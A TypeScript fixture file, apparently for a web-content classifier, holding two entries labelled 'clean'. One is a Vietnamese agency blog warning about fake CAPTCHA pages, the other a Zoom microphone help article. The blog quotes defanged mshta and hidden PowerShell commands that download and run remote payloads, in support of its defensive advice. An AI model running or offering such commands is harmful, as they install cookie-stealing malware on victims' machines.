import { htmlRoute, redirectRoute, type Entry } from '../entry.js';
import { jsRoute, jsonRoute } from '../parts/e-bin.js';
import { CSS, analytics, b64, copyButtons, doc, esc, siteShell } from '../parts/ys-kit.js';

// Agency blogs, newsletters and IT help pages that quote scams, commands and code — for the reader's benefit.

export const entries: Entry[] = [
{
  id: 'ys-clean-agency-blog-clickfix-command-vi',
  label: 'clean',
  kind: 'security-blog',
  url: 'https://saigonpixel.vn/blog/canh-bao-trang-xac-minh-gia-clickfix',
  body: doc({
    lang: 'vi',
    title: 'Cảnh báo: trang "Xác minh bạn là con người" giả yêu cầu nhấn Win+R — Saigon Pixel',
    css: CSS.reset + CSS.article,
    body: siteShell({
      name: 'Saigon Pixel',
      color: '#0a7cff',
      nav: ['Dịch vụ', 'Dự án', 'Blog', 'Liên hệ'],
      body: `<main><p style="font-family:Helvetica,Arial;color:#888;font-size:13px">Bảo mật · 14/10/2025</p>
<h1>Cảnh báo: trang "Xác minh bạn là con người" giả yêu cầu nhấn Win+R</h1>
<p>Tuần qua, ba khách hàng của chúng tôi gặp cùng một kiểu tấn công khi mở link "tài liệu khiếu nại Meta": trang web hiện ô CAPTCHA giả, sau khi bấm vào sẽ tự động sao chép một lệnh vào clipboard và hướng dẫn nạn nhân nhấn <b>Win + R</b>, dán bằng <b>Ctrl + V</b> rồi nhấn <b>Enter</b>.</p>
<h2>Lệnh mà trang giả sao chép</h2>
<pre>mshta hxxps://meta-khieunai-docs[.]com/v/8841.hta #  Meta Business Verification - Ma xac minh: 8841-2025</pre>
<p>Phần sau dấu <code>#</code> chỉ là chú thích để hộp thoại Run hiển thị dòng chữ trông vô hại. Lệnh thật sự tải và chạy một tệp HTA, sau đó cài mã độc đánh cắp cookie trình duyệt — kẻ tấn công dùng cookie này để chiếm quyền Trình quản lý kinh doanh mà không cần mật khẩu hay mã 2FA.</p>
<p>Một biến thể khác dùng PowerShell:</p>
<pre>powershell -w h -nop -c "iex(iwr 'hxxps://cf-verify-check[.]com/s/v2' -UseBasicParsing)"</pre>
<h2>Cách phòng tránh</h2>
<ul><li>Không có trang CAPTCHA hợp lệ nào yêu cầu bạn mở hộp thoại Run hay Terminal.</li><li>Nếu đã lỡ chạy lệnh: ngắt mạng, đăng xuất mọi phiên Facebook/Google từ thiết bị khác, đổi mật khẩu và báo ngay cho bộ phận IT.</li><li>Quản trị viên có thể chặn <code>mshta.exe</code> và giới hạn PowerShell bằng chính sách nhóm.</li></ul></main>`,
      foot: 'Saigon Pixel Agency · 12 Tôn Đản, Q.4, TP.HCM · Hotline 028 3940 1122',
    }),
  }),
},

{
  id: 'ys-clean-webinar-mic-settings-win-r',
  label: 'clean',
  kind: 'support-article',
  url: 'https://support.zoom.com/hc/en/article?id=zm_kb&sysparm_article=KB0064034',
  body: doc({
    title: 'Troubleshooting microphone issues on Windows - Zoom Support',
    css: CSS.reset + `body{font-family:Lato,Arial,sans-serif;color:#232333;line-height:1.65}.hd{background:#0b5cff;color:#fff;padding:14px 30px;font-weight:700}.a{max-width:780px;margin:30px auto;padding:0 20px}kbd{border:1px solid #bbb;border-bottom-width:3px;border-radius:4px;padding:0 6px;font-family:Consolas,monospace;background:#f7f7f7}code{background:#f1f3f7;padding:2px 6px;border-radius:4px}`,
    body: `<div class="hd">zoom Support</div>
<div class="a"><h1>Troubleshooting microphone issues on Windows</h1>
<p>If others can't hear you in a meeting, Windows may be blocking Zoom from using your microphone.</p>
<h2>Allow microphone access</h2>
<ol><li>Press <kbd>Win</kbd> + <kbd>R</kbd> to open the Run dialog.</li><li>Type <code>ms-settings:privacy-microphone</code> and press <kbd>Enter</kbd>. The Windows Settings page for microphone privacy opens.</li><li>Turn on <b>Microphone access</b> and <b>Let desktop apps access your microphone</b>.</li><li>Restart the Zoom desktop app.</li></ol>
<h2>Test your audio</h2><p>In the Zoom app, click your profile picture, then <b>Settings &gt; Audio &gt; Test Mic</b>. You can also join a test meeting at <a href="https://zoom.us/test">zoom.us/test</a>.</p>
<p style="font-size:13px;color:#747487">Zoom Support will never ask you to run scripts or paste commands copied from a web page to fix audio.</p></div>`,
  }),
},
];
